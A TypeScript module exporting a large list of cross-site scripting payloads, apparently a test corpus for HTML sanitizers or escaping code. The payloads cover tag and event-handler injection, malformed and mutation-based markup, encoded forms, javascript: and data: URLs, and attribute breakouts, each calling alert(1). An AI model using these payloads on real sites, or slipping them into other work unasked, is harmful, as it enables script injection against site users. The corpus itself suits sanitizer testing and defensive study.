/** Texts that run a script where a page shows them carelessly: each calls `alert(1)` in some browser, in some place. */

const tags = [
  '<script>alert(1)</script>', '<SCRIPT>alert(1)</SCRIPT>', '<script src=data:,alert(1)></script>',
  '<script\n>alert(1)</script\n>', '<script/x>alert(1)</script>', '<script>alert(1)',
  '</script><script>alert(1)</script>', '<img src=x onerror=alert(1)>', '<IMG SRC=x OnErRoR=alert(1)>',
  '<img/src=x/onerror=alert(1)>', '<img src=x onerror="alert(1)"', '<img src=x onerror=alert`1`>',
  '<img src="x" alt="`" onerror=alert(1)>', '<img srcset=x onerror=alert(1)>', '<image src=x onerror=alert(1)>',
  '<video src=x onerror=alert(1)></video>', '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>', '<input autofocus onfocus=alert(1)>', '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>', '<keygen autofocus onfocus=alert(1)>',
  '<button autofocus onfocus=alert(1)>x</button>', '<body onload=alert(1)>', '<body onpageshow=alert(1)>',
  '<iframe src=javascript:alert(1)></iframe>', '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<iframe onload=alert(1)></iframe>', '<object data=javascript:alert(1)></object>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>', '<embed src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>', '<marquee onstart=alert(1)>x</marquee>',
  '<meter onmouseover=alert(1)>0</meter>',
  '<dialog open onclose=alert(1)><form method=dialog><button autofocus>x</button></form></dialog>',
  '<p tabindex=1 autofocus onfocus=alert(1)>x</p>', '<b id=x tabindex=1 onfocus=alert(1) autofocus>x</b>',
  '<div contenteditable autofocus onfocus=alert(1)>x</div>',
  '<div popover id=x onbeforetoggle=alert(1)>x</div><button popovertarget=x>y</button>',
  '<form action=javascript:alert(1)><button autofocus>x</button></form>',
  '<button formaction=javascript:alert(1) form=x>x</button><form id=x></form>',
  '<isindex type=image src=x onerror=alert(1)>', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href=javascript:/a/-alert(1)///////><a href=../lol/safari.html>x</a>',
  '<link rel=stylesheet href=data:,*{x:expression(alert(1))}>',
  '<link rel=import href=data:text/html,<script>alert(1)</script>>', '<frameset onload=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>', '<xmp><img src=x onerror=alert(1)></xmp>',
  '<listing><img src=x onerror=alert(1)></listing>',
  '<custom-element onfocus=alert(1) tabindex=1 autofocus>x</custom-element>', '<x onclick=alert(1)>x',
]

const broken = [
  '<<script>alert(1)//<</script>', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<<b>script>alert(1)</<b>/script>',
  '<img src=x onerror=alert(1)//', '<img """><script>alert(1)</script>">', '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>", '--><img src=x onerror=alert(1)>', '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>', '<!-<img src=x onerror=alert(1)>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<?xml?><img src=x onerror=alert(1)>',
  '<!doctype x><img src=x onerror=alert(1)>', '</p><img src=x onerror=alert(1)>', '</ <img src=x onerror=alert(1)>',
  '<a<img src=x onerror=alert(1)>', '<b/onmouseover=alert(1)/><img/onerror=alert(1) src=x>',
  '<b x="<img src=x onerror=alert(1)>">x</b>', "<b x='><img src=x onerror=alert(1)>'>x</b>",
  '<img src=x\tonerror\n=\talert(1)>', '<img\u000csrc=x\u000conerror=alert(1)>', '<img src=x onerror\u000b=alert(1)>',
  '<script\u00a0>alert(1)</script>', '< script>alert(1)</ script>', '\ufeff<script>alert(1)</script>',
  '\u202e<script>alert(1)</script>',
]

const mutations = [
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style><p title="</style><img src=x onerror=alert(1)>">', '<title><p title="</title><img src=x onerror=alert(1)>">',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<noframes><p title="</noframes><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>">', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<table><td><svg><desc><td><img src=x onerror=alert(1)></td></desc></svg></td></table>',
  '<option><style></option></select><b><img src=x onerror=alert(1)></style></option>',
  '<textarea></textarea\t><img src=x onerror=alert(1)>', '<template><img src=x onerror=alert(1)></template>',
  '<p><a title="</p><img src=x onerror=alert(1)>">x</a>', '<svg onload=alert(1)>', '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>', '<svg><script xlink:href=data:,alert(1) />',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=alert(1)></svg>#x">',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', '<math href=javascript:alert(1)>x</math>',
  '<math><a xlink:href=javascript:alert(1)>x</a></math>',
]

const encoded = [
  '&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;',
  '&lt;img src=x onerror=alert(1)&gt;', '&amp;lt;img src=x onerror=alert(1)&amp;gt;',
  '&#60;img src=x onerror=alert(1)&#62;', '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '&#0000060img src=x onerror=alert(1)>', '&LT;img src=x onerror=alert(1)&GT;', '&ltimg src=x onerror=alert(1)&gt',
  '<b>&lt;img src=x onerror=alert(1)&gt;</b>', '<b>&amp;lt;img src=x onerror=alert(1)&amp;gt;</b>',
  '<b>&amp;#60;img src=x onerror=alert(1)&amp;#62;</b>', '<b></b>&amp;amp;lt;img src=x onerror=alert(1)&amp;amp;gt;',
  '%3Cimg%20src=x%20onerror=alert(1)%3E', '\\u003cimg src=x onerror=alert(1)\\u003e',
  '\\x3cimg src=x onerror=alert(1)\\x3e', '\uff1cimg src=x onerror=alert(1)\uff1e',
  '+ADw-img src=x onerror=alert(1)+AD4-', '\u2028alert(1)\u2028', '\u2029;alert(1)//', '"+alert(1)+"', '\\"-alert(1)//',
  '${alert(1)}', '*/alert(1)/*',
]

const addresses = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' javascript:alert(1)', '\u0001javascript:alert(1)',
  'java\tscript:alert(1)', 'java\nscript:alert(1)', 'javascript\t:alert(1)', 'javascript://example.org/%0aalert(1)',
  'javascript:%61lert(1)', 'javascript&colon;alert(1)', '&#106;avascript:alert(1)', 'vbscript:alert(1)',
  'data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', 'blob:https://example.org/alert(1)',
  'view-source:javascript:alert(1)', 'ftp://example.org/"onmouseover="alert(1)',
  'https://example.org/"onmouseover="alert(1)', "https://example.org/'onmouseover='alert(1)",
  'https://example.org/"><img/src=x/onerror=alert(1)>', "https://example.org/'><img/src=x/onerror=alert(1)>",
  "https://example.org/?'onmouseover='alert(1)", "https://example.org/#'onmouseover='alert(1)",
  'https://example.org/#"autofocus onfocus="alert(1)', 'https://example.org/?"autofocus onfocus="alert(1)',
  'https://example.org/`onmouseover=`alert(1)', 'https://example.org/?a=\\"onmouseover=\\"alert(1)',
  'https://example.org/</script><script>alert(1)</script>', 'https://a"onmouseover="alert(1).example/',
  "https://a'onmouseover='alert(1).example/", 'https://"onmouseover="alert(1)@example.org/',
  'https:javascript:alert(1)', 'https:///javascript:alert(1)', '//example.org/"onmouseover="alert(1)',
]

const linked = [
  ...[
    'javascript:alert(1)', ' &#14; javascript:alert(1)', 'java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)',
    '&#x6a;avascript:alert(1)', 'JAVASCRIPT&colon;alert(1)', 'data:text/html,<script>alert(1)</script>',
    'vbscript:alert(1)', "https://example.org/' onmouseover='alert(1)", '/../javascript:alert(1)',
  ].map((href) => `<a href="${href}">x</a>`),
  '<a href=javascript:alert(1) autofocus tabindex=1 onfocus=alert(1)>x</a>',
  '<a href="https://example.org/" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<a href="https://example.org/&quot;onmouseover=&quot;alert(1)">x</a>',
  '<a href="https://example.org/" class="&quot; onmouseover=&quot;alert(1)">x</a>', '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://example.org/x" alt="&quot; onerror=&quot;alert(1)" width="1 onerror=alert(1)">',
  '<img src="https://127.0.0.1:1/&quot; onerror=alert(1)">',
]

const styles = [
  '<style>@import "javascript:alert(1)";</style>', '<b style="x:expression(alert(1))">x</b>',
  '<b style="background:url(javascript:alert(1))">x</b>',
  '<b style="animation-name:x" onanimationstart="alert(1)">x</b><style>@keyframes x{}</style>',
  '<b style="transition:1s" ontransitionend=alert(1)>x</b>', '" style="x:expression(alert(1))',
]

const attributes = [
  '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus="alert(1)" x="', '` onmouseover=`alert(1)',
  '"><svg/onload=alert(1)>@example.org', "'onmouseover=alert(1)//@example.org",
  '"onfocus="alert(1)"autofocus="@example.org',
]

export const vectors: readonly string[] = [
  ...tags, ...broken, ...mutations, ...encoded, ...addresses, ...linked, ...styles, ...attributes,
]
